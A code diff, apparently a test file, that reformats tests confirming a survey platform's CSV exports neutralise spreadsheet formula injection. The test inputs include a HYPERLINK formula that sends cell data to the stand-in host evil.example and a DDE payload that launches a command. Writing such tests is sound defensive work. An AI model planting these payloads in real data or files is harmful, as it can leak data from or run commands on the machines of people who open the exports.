@@ -17,9 +17,21 @@ let questionnaireId: string;
 let token: string;
 
 const SUBMIT = `mutation($input: SubmitResponseInput!) { submitResponse(input: $input) { responseId } }`;
-const survey = { pages: [{ name: 'p', elements: [{ type: 'rating', name: 'mood', rateMin: -2, rateMax: 2 }, { type: 'comment', name: 'why' }] }] };
+const survey = {
+  pages: [
+    {
+      name: 'p',
+      elements: [
+        { type: 'rating', name: 'mood', rateMin: -2, rateMax: 2 },
+        { type: 'comment', name: 'why' },
+      ],
+    },
+  ],
+};
 const download = async (path: string) => {
-  const response = await fetch(`${app.url}${path}`, { headers: { cookie: `barometer_session=${t.admin.cookie('barometer_session')}` } });
+  const response = await fetch(`${app.url}${path}`, {
+    headers: { cookie: `barometer_session=${t.admin.cookie('barometer_session')}` },
+  });
   expect(response.status).toBe(200);
   const text = await response.text();
   return { text, rows: parse(text, { bom: true, columns: true }) as Record<string, string>[] };
@@ -31,7 +43,11 @@ beforeAll(async () => {
   const q = await newQuestionnaire(t.admin, t.headOfficeId, survey, 'Mood');
   questionnaireId = q.id;
   const versionId = (await publish(t.admin, q.id, 'v1')).id;
-  token = (await t.admin.ok(`mutation { openQuestionnaireVersion(input: { versionId: "${versionId}", unitId: "${t.headOfficeId}" }) { token } }`)).openQuestionnaireVersion.token;
+  token = (
+    await t.admin.ok(
+      `mutation { openQuestionnaireVersion(input: { versionId: "${versionId}", unitId: "${t.headOfficeId}" }) { token } }`,
+    )
+  ).openQuestionnaireVersion.token;
 });
 afterAll(() => app?.close());
 
@@ -39,9 +55,18 @@ describe('CSV exports', () => {
   it('respondent text starting with = + - @ TAB or CR comes out quoted as text; a negative rating stays a number', async () => {
     const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-1-1', '@SUM(A1:A9)', '\t=1', '\r=1'];
     for (const [i, why] of hostile.entries()) {
-      await app.client().ok(SUBMIT, { input: { token, clientRequestId: randomUUID(), answers: { mood: -2, why }, respondentCategory: i === 0 ? '=cmd|" /C calc"!A0' : 'insured' } });
+      await app.client().ok(SUBMIT, {
+        input: {
+          token,
+          clientRequestId: randomUUID(),
+          answers: { mood: -2, why },
+          respondentCategory: i === 0 ? '=cmd|" /C calc"!A0' : 'insured',
+        },
+      });
     }
-    const { text, rows } = await download(`/api/exports/responses?questionnaireId=${questionnaireId}&format=csv&language=raw`);
+    const { text, rows } = await download(
+      `/api/exports/responses?questionnaireId=${questionnaireId}&format=csv&language=raw`,
+    );
     expect(rows.map((r) => r.why).sort()).toEqual(hostile.map((h) => `'${h}`).sort());
     expect(rows.map((r) => r._respondent_category)).toContain(`'=cmd|" /C calc"!A0`);
     expect(rows.map((r) => r.mood)).toEqual(Array(6).fill('-2'));
@@ -51,9 +76,13 @@ describe('CSV exports', () => {
 
   it('a unit name starting with = in the results download comes out as text', async () => {
     const unit = await newUnit(t.admin, t.headOfficeId, 'EVIL');
-    await t.admin.ok(`mutation($input: UpdateOrgUnitInput!) { updateOrgUnit(input: $input) { id } }`, { input: { id: unit.id, name: '=2+5' } });
+    await t.admin.ok(`mutation($input: UpdateOrgUnitInput!) { updateOrgUnit(input: $input) { id } }`, {
+      input: { id: unit.id, name: '=2+5' },
+    });
     const model = (await t.admin.ok(`{ indicatorModels { edges { node { id } } } }`)).indicatorModels.edges[0].node.id;
-    const { rows } = await download(`/api/exports/results?modelId=${model}&unitId=${t.headOfficeId}&from=2020-01-01&to=2030-01-01&children=true&format=csv`);
+    const { rows } = await download(
+      `/api/exports/results?modelId=${model}&unitId=${t.headOfficeId}&from=2020-01-01&to=2030-01-01&children=true&format=csv`,
+    );
     expect(rows.map((r) => r.unit_name)).toContain(`'=2+5`);
     expect(rows.map((r) => r.unit_name)).not.toContain('=2+5');
   });
